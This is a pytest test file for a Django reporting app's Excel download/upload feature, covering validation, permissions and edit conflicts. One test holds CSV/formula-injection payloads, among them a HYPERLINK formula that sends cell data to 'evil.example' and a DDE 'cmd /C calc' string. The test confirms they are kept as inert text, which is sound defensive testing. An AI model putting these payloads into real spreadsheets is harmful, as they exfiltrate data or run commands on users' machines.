"""The spreadsheet round trip: download a period's reports as XLSX, fill them in, upload.

Unit A and unit B each have three tasks of 136-CV/HU in Tháng 9/2021, so a reporter's
workbook has a header row and data rows 2 to 4, in task order.
"""

import io
import re
import zipfile
from decimal import Decimal
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directives.models import Assignment, Directive, Indicator, Task
from directives.services import assignments_sync
from reports.filing import services
from reports.filing.models import IndicatorValue, ProgressReport, ReportTransition
from reports.spreadsheets.download import period_workbook
from reports.spreadsheets.upload import period_workbook_import
from units import permissions
from units.models import Membership

from ...conftest import login
from ...factories import (
    AssignmentFactory,
    MembershipFactory,
    ProgressReportFactory,
    ReportingPeriodFactory,
    TaskFactory,
    UnitFactory,
)

pytestmark = pytest.mark.django_db

HEADERS = [
    "Mã dòng (không sửa)",
    "Đơn vị",
    "Nhiệm vụ",
    "Vai trò",
    "Trạng thái",
    "Tự đánh giá",
    "Tỷ lệ hoàn thành (%)",
    "Kết quả thực hiện",
    "Khó khăn, vướng mắc",
    "Kiến nghị, đề xuất",
    "Phiên bản (không sửa)",
]
INDICATOR_HEADERS = [
    "Mã dòng (không sửa)",
    "Mã chỉ tiêu (không sửa)",
    "Đơn vị",
    "Nhiệm vụ",
    "Chỉ tiêu",
    "Đơn vị tính",
    "Bắt buộc khi gửi",
    "Giá trị",
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def world(small_directive, unit_a, unit_b):
    """Three tasks in mục 1, each assigned to unit A (lead) and unit B (support)."""
    sd = small_directive
    TaskFactory(section=sd.section, order=2, text="Tuyên truyền trên hệ thống loa truyền thanh.")
    TaskFactory(section=sd.section, order=3, text="Sơ kết, báo cáo kết quả thực hiện.")
    assignments_sync(directive=sd.directive)

    def of(unit):
        return list(
            Assignment.objects.filter(unit=unit, task__section=sd.section).order_by("task__order")
        )

    return SimpleNamespace(
        directive=sd.directive, period=sd.period, a=of(unit_a), b=of(unit_b), unit_a=unit_a
    )


@pytest.fixture
def indicators(world):
    """Task 1.1 counts articles (required) and conferences; task 1.2 loudspeaker clusters."""
    first, second = world.a[0].task, world.a[1].task
    return SimpleNamespace(
        articles=Indicator.objects.create(
            task=first, order=1, name="Số tin, bài", unit_of_measure="bài"
        ),
        meetings=Indicator.objects.create(
            task=first, order=2, name="Số hội nghị", unit_of_measure="hội nghị", required=False
        ),
        speakers=Indicator.objects.create(
            task=second, order=1, name="Số cụm loa", unit_of_measure="cụm"
        ),
    )


def page_url(period) -> str:
    return reverse("reports:spreadsheet", args=[period.pk])


def download_url(period) -> str:
    return reverse("reports:spreadsheet_download", args=[period.pk])


def download(user, period):
    response = login(user).get(download_url(period))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def table(wb) -> list[dict]:
    """The data rows of the report sheet, as {header: value}."""
    rows = list(wb["Báo cáo"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def indicator_table(wb) -> list[dict]:
    """The data rows of the indicator sheet, as {header: value}."""
    rows = list(wb["Chỉ tiêu"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def row_numbers(wb) -> dict[int, int]:
    """Row number of each key on the report sheet."""
    keys = [r["Mã dòng (không sửa)"] for r in table(wb)]
    return {key: number for number, key in enumerate(keys, start=2)}


def fill_indicator(wb, assignment, indicator, value) -> None:
    """Set the value of one (assignment, indicator) row of the indicator sheet."""
    ws = wb["Chỉ tiêu"]
    for number, row in enumerate(indicator_table(wb), start=2):
        if (row["Mã dòng (không sửa)"], row["Mã chỉ tiêu (không sửa)"]) == (
            assignment.pk,
            indicator.pk,
        ):
            ws.cell(row=number, column=INDICATOR_HEADERS.index("Giá trị") + 1).value = value
            return
    raise AssertionError(f"no row for {assignment.pk}, {indicator.pk}")


def values_of(report) -> dict[str, Decimal]:
    return {v.indicator.name: v.value for v in report.indicator_values.select_related("indicator")}


def fill(wb, row: int, **values) -> None:
    """Set cells of a data row by header: fill(wb, 3, **{"Tỷ lệ hoàn thành (%)": 50})."""
    ws = wb["Báo cáo"]
    for header, value in values.items():
        ws.cell(row=row, column=HEADERS.index(header) + 1).value = value  # None clears


def as_upload(wb, name="bang-tinh.xlsx") -> SimpleUploadedFile:
    out = io.BytesIO()
    wb.save(out)
    return SimpleUploadedFile(name, out.getvalue(), content_type=XLSX)


def upload(user, period, file):
    return login(user).post(page_url(period), {"file": file})


def filled(assessment="Đang triển khai", percent=60, achievements="Đã họp chi bộ ngày 10/9."):
    return {
        "Tự đánh giá": assessment,
        "Tỷ lệ hoàn thành (%)": percent,
        "Kết quả thực hiện": achievements,
    }


def snapshot():
    return (
        list(ProgressReport.objects.order_by("pk").values()),
        ReportTransition.objects.count(),
        list(IndicatorValue.objects.order_by("pk").values()),
    )


# Download ---------------------------------------------------------------------------


def test_a_reporter_downloads_one_row_per_task_of_its_unit(world, reporter_a):
    response = login(reporter_a).get(download_url(world.period))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        'attachment; filename="bang-tinh-136-cv-hu-thang-9-2021.xlsx"'
    )
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb["Báo cáo"]
    assert [c.value for c in ws[1]] == HEADERS
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["K"].hidden
    rows = table(wb)
    assert [r["Mã dòng (không sửa)"] for r in rows] == [a.pk for a in world.a]
    assert {r["Đơn vị"] for r in rows} == {"Đảng bộ xã A"}
    assert rows[1]["Nhiệm vụ"] == "1.2 Tuyên truyền trên hệ thống loa truyền thanh."
    assert {r["Vai trò"] for r in rows} == {"Chủ trì"}
    assert {r["Trạng thái"] for r in rows} == {"Quá hạn"}  # due 20/09/2021
    assert {r["Tự đánh giá"] for r in rows} == {None}
    validations = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    assert validations["F2:F4"].formula1 == (
        '"Chưa triển khai,Đang triển khai,Hoàn thành,Gặp vướng mắc"'
    )
    assert validations["G2:G4"].type == "whole"


def test_the_download_is_prefilled_with_the_units_reports(world, reporter_a):
    ProgressReportFactory(
        assignment=world.a[0],
        period=world.period,
        assessment=ProgressReport.Assessment.BLOCKED,
        percent_done=30,
        achievements="Đã xây dựng kế hoạch.",
        difficulties="Thiếu kinh phí.",
        proposals="Đề nghị hỗ trợ.",
    )
    ProgressReportFactory(assignment=world.a[1], period=world.period, submitted=True)

    rows = table(download(reporter_a, world.period))

    assert rows[0] | {"Phiên bản (không sửa)": None} == {
        "Mã dòng (không sửa)": world.a[0].pk,
        "Đơn vị": "Đảng bộ xã A",
        "Nhiệm vụ": f"1.1 {world.a[0].task.text}",
        "Vai trò": "Chủ trì",
        "Trạng thái": "Quá hạn",  # its own draft, past the due date
        "Tự đánh giá": "Gặp vướng mắc",
        "Tỷ lệ hoàn thành (%)": 30,
        "Kết quả thực hiện": "Đã xây dựng kế hoạch.",
        "Khó khăn, vướng mắc": "Thiếu kinh phí.",
        "Kiến nghị, đề xuất": "Đề nghị hỗ trợ.",
        "Phiên bản (không sửa)": None,
    }
    assert rows[1]["Trạng thái"] == "Đã gửi"
    assert rows[1]["Tỷ lệ hoàn thành (%)"] == 40
    assert rows[2]["Kết quả thực hiện"] is None


def test_a_reviewer_gets_every_unit_but_never_a_units_draft(world, reviewer):
    ProgressReportFactory(
        assignment=world.a[0], period=world.period, submitted=True, achievements="Đã gửi của A"
    )
    ProgressReportFactory(
        assignment=world.b[0], period=world.period, achievements="Bản nháp riêng của xã B"
    )

    wb = download(reviewer, world.period)

    rows = {r["Mã dòng (không sửa)"]: r for r in table(wb)}
    assert set(rows) == {a.pk for a in world.a + world.b}
    assert rows[world.a[0].pk]["Kết quả thực hiện"] == "Đã gửi của A"
    draft_row = rows[world.b[0].pk]
    assert draft_row["Trạng thái"] == "Quá hạn"
    for header in HEADERS[5:]:
        assert draft_row[header] is None, header
    every_cell = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "Bản nháp riêng của xã B" not in every_cell


def test_without_a_reader_no_draft_is_shown(world):
    ProgressReportFactory(assignment=world.a[0], period=world.period, achievements="Nháp A")

    content = period_workbook(period=world.period, unit_ids=[world.unit_a.pk])

    assert table(load_workbook(io.BytesIO(content)))[0]["Kết quả thực hiện"] is None


PAYLOADS = {
    "Kết quả thực hiện": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "Khó khăn, vướng mắc": "+cmd|' /C calc'!A0",
    "Kiến nghị, đề xuất": "- Đề nghị cấp kinh phí;\n@SUM(1+1)",
}


def test_formula_payloads_are_written_as_text_and_come_back_unchanged(world, reporter_a):
    report = ProgressReportFactory(
        assignment=world.a[0],
        period=world.period,
        achievements=PAYLOADS["Kết quả thực hiện"],
        difficulties=PAYLOADS["Khó khăn, vướng mắc"],
        proposals=PAYLOADS["Kiến nghị, đề xuất"],
    )
    response = login(reporter_a).get(download_url(world.period))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml

    wb = load_workbook(io.BytesIO(response.content))
    ws = wb["Báo cáo"]
    for header, payload in PAYLOADS.items():
        cell = ws.cell(row=2, column=HEADERS.index(header) + 1)
        assert cell.data_type == "s"
        assert cell.value == payload
        assert cell.quotePrefix

    # Change only the percentage: the texts are saved back exactly as they were.
    fill(wb, 2, **{"Tỷ lệ hoàn thành (%)": 55})
    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302
    report.refresh_from_db()
    assert report.percent_done == 55
    assert (report.achievements, report.difficulties, report.proposals) == tuple(PAYLOADS.values())


# Upload -----------------------------------------------------------------------------


def test_the_round_trip_saves_drafts_with_the_values_typed(world, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled("Hoàn thành", 100, "Đã tổ chức hội nghị quán triệt."))
    fill(wb, 3, **filled("Gặp vướng mắc", 20, "Đã lắp 3 cụm loa."))
    fill(wb, 3, **{"Khó khăn, vướng mắc": "Thiếu loa.", "Kiến nghị, đề xuất": "Cấp thêm loa."})
    fill(wb, 4, **filled("chưa triển khai", "0", ""))  # label in any case, percent as text

    client = login(reporter_a)
    response = client.post(page_url(world.period), {"file": as_upload(wb)})

    assert response.status_code == 302
    assert response.url == page_url(world.period)
    page = client.get(response.url).content.decode()
    assert "Đã lưu 3 báo cáo dưới dạng nháp" in page
    assert reverse("reports:unit_work") in page
    reports = {r.assignment_id: r for r in ProgressReport.objects.all()}
    assert len(reports) == 3
    first, second, third = (reports[a.pk] for a in world.a)
    assert (first.assessment, first.percent_done, first.achievements) == (
        "done",
        100,
        "Đã tổ chức hội nghị quán triệt.",
    )
    assert (second.assessment, second.difficulties, second.proposals) == (
        "blocked",
        "Thiếu loa.",
        "Cấp thêm loa.",
    )
    assert (third.assessment, third.percent_done, third.achievements) == ("not_started", 0, "")
    assert {r.status for r in reports.values()} == {"draft"}
    assert {r.updated_by for r in reports.values()} == {reporter_a}


def test_uploading_the_same_values_again_saves_nothing(world, reporter_a):
    ProgressReportFactory(assignment=world.a[0], period=world.period)
    wb = download(reporter_a, world.period)
    before = snapshot()

    client = login(reporter_a)
    response = client.post(page_url(world.period), {"file": as_upload(wb)}, follow=True)

    assert response.redirect_chain == [(page_url(world.period), 302)]
    assert "không có thay đổi" in response.content.decode()
    assert snapshot() == before


def test_a_file_with_bad_rows_saves_nothing_and_names_row_and_column(world, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill(wb, 3, **filled(percent=150))
    fill(wb, 4, **filled(assessment="Xong rồi"))

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"] == [
        "Dòng 3, cột “Tỷ lệ hoàn thành (%)”: phải là số nguyên từ 0 đến 100.",
        "Dòng 4, cột “Tự đánh giá”: “Xong rồi” không có trong danh sách; chọn một trong: "
        "Chưa triển khai, Đang triển khai, Hoàn thành, Gặp vướng mắc.",
    ]
    page = response.content.decode()
    assert "Dòng 3, cột “Tỷ lệ hoàn thành (%)”" in page
    assert "Chưa báo cáo nào được lưu" in page
    assert not ProgressReport.objects.exists()


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"Tỷ lệ hoàn thành (%)": -5}, "cột “Tỷ lệ hoàn thành (%)”: phải là số nguyên"),
        ({"Tỷ lệ hoàn thành (%)": 12.5}, "cột “Tỷ lệ hoàn thành (%)”: phải là số nguyên"),
        ({"Tỷ lệ hoàn thành (%)": None}, "cột “Tỷ lệ hoàn thành (%)”: phải là số nguyên"),
        ({"Tự đánh giá": None}, "cột “Tự đánh giá”: chưa chọn"),
        ({"Kết quả thực hiện": "x" * 10_001}, "tối đa 10.000 ký tự (đang có 10.001)"),
        ({"Tỷ lệ hoàn thành (%)": "=50+10"}, "không dùng công thức"),
    ],
    ids=["negative", "fraction", "missing-percent", "missing-assessment", "too-long", "formula"],
)
def test_each_bad_value_is_refused(values, message, world, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **{**filled(), **values})

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert any(e.startswith("Dòng 2") and message in e for e in response.context["errors"])
    assert not ProgressReport.objects.exists()


def test_a_refusal_by_the_service_rolls_back_every_row(world, reporter_a, monkeypatch):
    real = services.report_save_draft

    def refuse_task_3(**kwargs):
        if kwargs["assignment"] == world.a[2]:
            raise ValidationError("Kỳ báo cáo đã khóa nhập.")
        return real(**kwargs)

    monkeypatch.setattr(services, "report_save_draft", refuse_task_3)
    wb = download(reporter_a, world.period)
    for row in (2, 3, 4):
        fill(wb, row, **filled())

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"] == ["Dòng 4: Kỳ báo cáo đã khóa nhập."]
    assert not ProgressReport.objects.exists()


def test_a_sent_report_is_skipped_unchanged_and_refused_changed(world, reporter_a):
    sent = ProgressReportFactory(assignment=world.a[0], period=world.period, submitted=True)
    wb = download(reporter_a, world.period)
    fill(wb, 3, **filled())

    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302
    assert ProgressReport.objects.get(assignment=world.a[1]).status == "draft"

    wb = download(reporter_a, world.period)
    before = snapshot()
    fill(wb, 2, **{"Kết quả thực hiện": "Sửa sau khi đã gửi"})
    fill(wb, 3, **filled(percent=70))
    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert len(response.context["errors"]) == 1
    assert response.context["errors"][0].startswith("Dòng 2: báo cáo đã gửi, không sửa được.")
    assert snapshot() == before
    sent.refresh_from_db()
    assert sent.achievements != "Sửa sau khi đã gửi"


def test_a_row_changed_since_the_download_is_not_overwritten(world, reporter_a):
    ProgressReportFactory(assignment=world.a[0], period=world.period, percent_done=40)
    ProgressReportFactory(assignment=world.a[1], period=world.period, percent_done=40)
    wb = download(reporter_a, world.period)
    for assignment in world.a[:2]:  # a colleague saves both in the browser meanwhile
        services.report_save_draft(
            assignment=assignment, period=world.period, by=reporter_a, data={"percent_done": 90}
        )
    fill(wb, 2, **{"Tỷ lệ hoàn thành (%)": 45})  # edited: refused
    before = snapshot()

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.context["errors"] == [
        "Dòng 2: báo cáo đã được sửa sau khi bạn tải bảng tính về; hãy tải lại bảng tính "
        "để không ghi đè nội dung mới."
    ]
    assert snapshot() == before

    # Row 3 was left as downloaded: skipped, so the colleague's 90 stays.
    fill(wb, 2, **{"Tỷ lệ hoàn thành (%)": 40})
    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302
    assert snapshot() == before


def test_a_save_made_during_the_upload_is_not_overwritten(world, reporter_a, monkeypatch):
    ProgressReportFactory(assignment=world.a[0], period=world.period, percent_done=40)
    wb = download(reporter_a, world.period)
    fill(wb, 2, **{"Tỷ lệ hoàn thành (%)": 45})
    real = services.report_save_draft

    def colleague_saves_first(**kwargs):
        real(assignment=world.a[0], period=world.period, by=reporter_a, data={"percent_done": 90})
        return real(**kwargs)

    monkeypatch.setattr(services, "report_save_draft", colleague_saves_first)

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    [error] = response.context["errors"]
    assert error.startswith("Dòng 2: ")  # the service's stale-version message
    assert ProgressReport.objects.get().percent_done == 40  # both saves rolled back


def test_a_workbook_of_another_period_is_refused(world, reporter_a):
    october = ReportingPeriodFactory(
        directive=world.directive,
        label="Tháng 10/2021",
        start="2021-09-15",
        cutoff="2021-10-14",
        due="2021-10-20",
    )
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())

    response = upload(reporter_a, october, as_upload(wb))

    assert response.context["errors"] == [
        "Bảng tính này là của kỳ “Tháng 9/2021”, không phải kỳ “Tháng 10/2021”."
    ]
    assert not ProgressReport.objects.exists()


def test_a_hand_made_workbook_with_the_headers_is_read(world, reporter_a):
    wb = Workbook()
    wb.active.append(HEADERS[:-1])
    wb.active.append([world.a[1].pk, None, None, None, None, "Hoàn thành", 100, "Xong."])

    assert upload(reporter_a, world.period, as_upload(wb)).status_code == 302

    report = ProgressReport.objects.get()
    assert (report.assignment, report.percent_done, report.achievements) == (
        world.a[1],
        100,
        "Xong.",
    )


def test_a_workbook_without_the_columns_is_refused(world, reporter_a):
    wb = Workbook()
    wb.active.append(["STT", "Nội dung"])

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"][0].startswith("Bảng tính không đúng mẫu: thiếu cột")


def _zip_of(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "<w:document/>")
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [b"Day la mot tep van ban, khong phai bang tinh.\n", _zip_of("word/document.xml")],
    ids=["text-renamed-xlsx", "zip-not-a-workbook"],
)
def test_a_file_that_is_not_an_xlsx_is_refused(content, world, reporter_a):
    file = SimpleUploadedFile("bang-tinh.xlsx", content, content_type=XLSX)

    response = upload(reporter_a, world.period, file)

    assert response.status_code == 200
    assert response.context["errors"] == [
        "Tệp không phải bảng tính Excel (.xlsx) hoặc đã bị hỏng. "
        "Hãy tải bảng tính của kỳ này về, điền rồi lưu dưới dạng .xlsx."
    ]
    assert not ProgressReport.objects.exists()


def test_a_file_over_5_mb_is_refused(world, reporter_a):
    file = SimpleUploadedFile("bang-tinh.xlsx", b"\0" * (5 * 1024 * 1024 + 1), content_type=XLSX)

    response = upload(reporter_a, world.period, file)

    assert response.status_code == 200
    assert response.context["errors"] == [
        "Tệp quá lớn: tối đa 5 MB. Hãy dùng bảng tính tải từ trang này."
    ]


def test_an_upload_without_a_file_redisplays_the_form(world, reporter_a):
    response = login(reporter_a).post(page_url(world.period), {})

    assert response.status_code == 200
    assert "Chọn tệp bảng tính để nhập." in response.content.decode()


def test_nothing_is_imported_into_a_directive_no_longer_in_force(world, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    Directive.objects.filter(pk=world.directive.pk).update(status=Directive.Status.CLOSED)

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert "không còn ở trạng thái đang thực hiện" in response.context["errors"][0]
    assert not ProgressReport.objects.exists()


# Who may do it ----------------------------------------------------------------------

# GET status code of the page and of the download, for each persona.
ACCESS = {"reporter_a": 200, "reporter_b": 200, "reviewer": 200, "leader": 403}


@pytest.mark.parametrize("persona", ACCESS)
@pytest.mark.parametrize("url", [page_url, download_url], ids=["page", "download"])
def test_who_opens_the_spreadsheet(url, persona, world, client_for):
    response = client_for(persona).get(url(world.period))

    assert response.status_code == ACCESS[persona]
    if response.status_code == 403:
        assert "Bạn không có quyền" in response.content.decode()


@pytest.mark.parametrize("url", [page_url, download_url], ids=["page", "download"])
def test_anonymous_visitors_are_sent_to_log_in(url, world, client):
    target = url(world.period)

    response = client.get(target)

    assert response.status_code == 302
    assert response.url == f"/dang-nhap/?next={quote(target, safe='/')}"


@pytest.mark.parametrize("persona", ["leader", "anonymous"])
def test_leadership_and_visitors_cannot_upload(persona, world, reporter_a, client_for):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    before = snapshot()

    response = client_for(persona).post(page_url(world.period), {"file": as_upload(wb)})

    assert response.status_code == (403 if persona == "leader" else 302)
    assert snapshot() == before


def test_reporter_b_gets_only_unit_b_rows_with_its_own_draft(world, reporter_b):
    ProgressReportFactory(
        assignment=world.b[0], period=world.period, achievements="Bản nháp riêng của xã B"
    )
    ProgressReportFactory(assignment=world.a[0], period=world.period, achievements="Nháp của A")

    rows = table(download(reporter_b, world.period))

    assert [r["Mã dòng (không sửa)"] for r in rows] == [a.pk for a in world.b]
    assert rows[0]["Kết quả thực hiện"] == "Bản nháp riêng của xã B"
    assert {r["Vai trò"] for r in rows} == {"Phối hợp"}


def test_a_reporter_cannot_write_another_units_row_by_editing_the_key(world, reporter_a):
    draft_b = ProgressReportFactory(
        assignment=world.b[0], period=world.period, achievements="Bản nháp riêng của xã B"
    )
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill(wb, 3, **{**filled(), "Mã dòng (không sửa)": world.b[0].pk})
    before = snapshot()

    response = upload(reporter_a, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"] == [
        "Dòng 3, cột “Mã dòng (không sửa)”: mã không khớp nhiệm vụ nào bạn được nhập "
        "trong kỳ báo cáo này."
    ]
    assert snapshot() == before
    draft_b.refresh_from_db()
    assert draft_b.achievements == "Bản nháp riêng của xã B"


def test_a_key_given_twice_is_refused(world, reporter_a):
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    fill(wb, 3, **{**filled(percent=10), "Mã dòng (không sửa)": world.a[0].pk})

    response = upload(reporter_a, world.period, as_upload(wb))

    assert "Dòng 3, cột “Mã dòng (không sửa)”: mã trùng với dòng 2." in response.context["errors"]
    assert not ProgressReport.objects.exists()


def test_a_reviewer_enters_reports_for_units_but_not_over_their_drafts(world, reviewer):
    draft_b = ProgressReportFactory(
        assignment=world.b[0], period=world.period, achievements="Bản nháp riêng của xã B"
    )
    wb = download(reviewer, world.period)
    rows = [r["Mã dòng (không sửa)"] for r in table(wb)]
    row_of = {key: number for number, key in enumerate(rows, start=2)}
    fill(wb, row_of[world.b[0].pk], **filled(achievements="Ghi đè bản nháp"))
    fill(wb, row_of[world.b[1].pk], **filled(achievements="Nhập hộ xã B từ báo cáo giấy"))

    response = upload(reviewer, world.period, as_upload(wb))

    assert response.context["errors"] == [
        f"Dòng {row_of[world.b[0].pk]}: đơn vị đang tự báo cáo nhiệm vụ này; không nhập thay được."
    ]
    assert ProgressReport.objects.get() == draft_b

    fill(wb, row_of[world.b[0].pk], **dict.fromkeys(filled()))  # leave it to the unit
    response = upload(reviewer, world.period, as_upload(wb))

    assert response.status_code == 302, response.context["errors"]
    entered = ProgressReport.objects.get(assignment=world.b[1])
    assert (entered.status, entered.updated_by) == ("draft", reviewer)
    assert entered.achievements == "Nhập hộ xã B từ báo cáo giấy"
    draft_b.refresh_from_db()
    assert draft_b.achievements == "Bản nháp riêng của xã B"


# Links and queries ------------------------------------------------------------------


def test_the_unit_page_and_the_reviewers_dashboard_link_to_the_spreadsheet(
    world, reporter_a, reviewer, leader
):
    dashboard = reverse("reports:dashboard", args=[world.directive.pk])

    assert page_url(world.period) in login(reporter_a).get(reverse("reports:unit_work")).text
    assert page_url(world.period) in login(reviewer).get(dashboard).text
    assert page_url(world.period) not in login(leader).get(dashboard).text


def test_the_download_takes_the_same_queries_for_any_number_of_rows(world, indicators, reviewer):
    def queries(unit_ids) -> int:
        with CaptureQueriesContext(connection) as captured:
            period_workbook(period=world.period, unit_ids=unit_ids, by=reviewer)
        return len(captured)

    def sent(assignment):
        report = ProgressReportFactory(assignment=assignment, period=world.period, submitted=True)
        IndicatorValue.objects.create(report=report, indicator=indicators.articles, value=3)

    sent(world.a[0])
    queries([world.unit_a.pk])  # the reviewer's roles are read once, then kept

    one_unit = queries([world.unit_a.pk])
    sent(world.b[0])
    all_units = queries([a.unit_id for a in world.a + world.b])

    assert one_unit == all_units <= 6


def test_a_reviewer_cannot_rewrite_a_returned_report_of_another_unit(world, reviewer):
    returned = ProgressReportFactory(
        assignment=world.b[0], period=world.period, returned=True, achievements="Bản của xã B"
    )
    wb = download(reviewer, world.period)
    row = row_numbers(wb)[world.b[0].pk]
    assert table(wb)[row - 2]["Kết quả thực hiện"] == "Bản của xã B"  # visible to reviewers
    cell = wb["Báo cáo"].cell(row=row, column=HEADERS.index("Kết quả thực hiện") + 1)
    assert cell.fill.fgColor.rgb.endswith("EEEEEE")  # shown as read-only
    fill(wb, row, **filled(achievements="Bộ phận theo dõi viết lại"))
    before = snapshot()

    response = upload(reviewer, world.period, as_upload(wb))

    assert response.status_code == 200
    assert response.context["errors"] == [
        f"Dòng {row}: đơn vị đang tự báo cáo nhiệm vụ này; không nhập thay được."
    ]
    assert snapshot() == before
    returned.refresh_from_db()
    assert (returned.status, returned.achievements) == ("returned", "Bản của xã B")


def test_a_reviewer_types_in_a_paper_report_with_its_indicators(world, indicators, reviewer):
    wb = download(reviewer, world.period)
    fill(wb, row_numbers(wb)[world.b[0].pk], **filled(achievements="Theo báo cáo giấy"))
    fill_indicator(wb, world.b[0], indicators.articles, 7)

    response = upload(reviewer, world.period, as_upload(wb))

    assert response.status_code == 302, response.context["errors"]
    report = ProgressReport.objects.get()
    assert (report.assignment, report.updated_by, report.status) == (world.b[0], reviewer, "draft")
    assert values_of(report) == {"Số tin, bài": Decimal(7)}


def test_a_reviewing_unit_files_its_own_tasks_and_another_reviewer_judges_them(world, reviewer):
    """Ban Tuyên giáo reviews the other units and has tasks of its own (4.1, 4.2 of
    136-CV/HU): its reviewer enters them from the spreadsheet with the other rows, sends
    them, and a reviewer who is not of the unit accepts them."""
    board = Membership.objects.get(user=reviewer).unit
    own = AssignmentFactory(task=world.a[0].task, unit=board)
    wb = download(reviewer, world.period)
    fill(wb, row_numbers(wb)[own.pk], **filled(achievements="Ban đã tổ chức hội nghị"))
    fill(wb, row_numbers(wb)[world.b[1].pk], **filled())  # another unit's paper report

    response = upload(reviewer, world.period, as_upload(wb))

    assert response.status_code == 302, response.context["errors"]
    report = ProgressReport.objects.get(assignment=own)
    assert (report.status, report.updated_by) == ("draft", reviewer)
    client = login(reviewer)
    assert own.task.text in client.get(reverse("reports:unit_work")).text
    form = reverse("reports:file", args=[own.pk, world.period.pk])
    assert client.get(form).status_code == 200
    services.report_submit(report=report, by=reviewer)

    assert client.post(reverse("reports:accept", args=[report.pk])).status_code == 403
    office = UnitFactory(name="Văn phòng Huyện ủy")
    other = MembershipFactory(unit=office, role=Membership.Role.REVIEWER).user
    login(other).post(reverse("reports:accept", args=[report.pk]))
    report.refresh_from_db()
    assert report.status == ProgressReport.Status.ACCEPTED


# Crafted files ----------------------------------------------------------------------

NOT_XLSX = (
    "Tệp không phải bảng tính Excel (.xlsx) hoặc đã bị hỏng. "
    "Hãy tải bảng tính của kỳ này về, điền rồi lưu dưới dạng .xlsx."
)
SHEET_FILES = {"Báo cáo": "xl/worksheets/sheet1.xml", "Chỉ tiêu": "xl/worksheets/sheet2.xml"}


def patched(content: bytes, sheet: str, ref: str, cell_xml: str) -> bytes:
    """The workbook with the XML of one cell replaced, as a hand-crafted file would have it."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == SHEET_FILES[sheet]:
                xml, count = re.subn(
                    rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', cell_xml, data.decode(), count=1
                )
                assert count == 1, f"{ref} not found in {sheet}"
                data = xml.encode()
            target.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("sheet", "ref", "cell_xml"),
    [
        ("Báo cáo", "G2", '<c r="G2" t="n"><v>abc</v></c>'),
        ("Báo cáo", "G2", '<c r="G2" t="n"><v>nan</v></c>'),
        ("Báo cáo", "G2", '<c r="G2" t="b"><v>x</v></c>'),
        ("Báo cáo", "H2", '<c r="H2" t="d"><v>2021-13-45T25:61:00</v></c>'),
        ("Báo cáo", "H2", '<c r="H2" t="s"><v>9999</v></c>'),
        ("Báo cáo", "A1", '<c r="A1" t="s"><v>9999</v></c>'),
        ("Báo cáo", "H2", '<c r="HHHHHHH2" t="n"><v>1</v></c>'),
        ("Chỉ tiêu", "H2", '<c r="H2" t="n"><v>abc</v></c>'),
        ("Chỉ tiêu", "H2", '<c r="H2" t="s"><v>-1</v></c>'),
    ],
    ids=[
        "number-is-text",
        "nan",
        "bad-boolean",
        "bad-date",
        "shared-string-out-of-range",
        "header-string-out-of-range",
        "bad-cell-reference",
        "indicator-number-is-text",
        "indicator-negative-string-index",
    ],
)
def test_a_crafted_workbook_is_refused_not_a_server_error(
    sheet, ref, cell_xml, world, reporter_a, request
):
    if sheet == "Chỉ tiêu":
        request.getfixturevalue("indicators")
    wb = download(reporter_a, world.period)
    fill(wb, 2, **filled())
    if sheet == "Chỉ tiêu":
        wb["Chỉ tiêu"]["H2"] = 5
    content = patched(as_upload(wb).read(), sheet, ref, cell_xml)

    response = upload(reporter_a, world.period, SimpleUploadedFile("x.xlsx", content, XLSX))

    assert response.status_code == 200
    assert response.context["errors"] == [NOT_XLSX]
    assert not ProgressReport.objects.exists()


# Indicators -------------------------------------------------------------------------


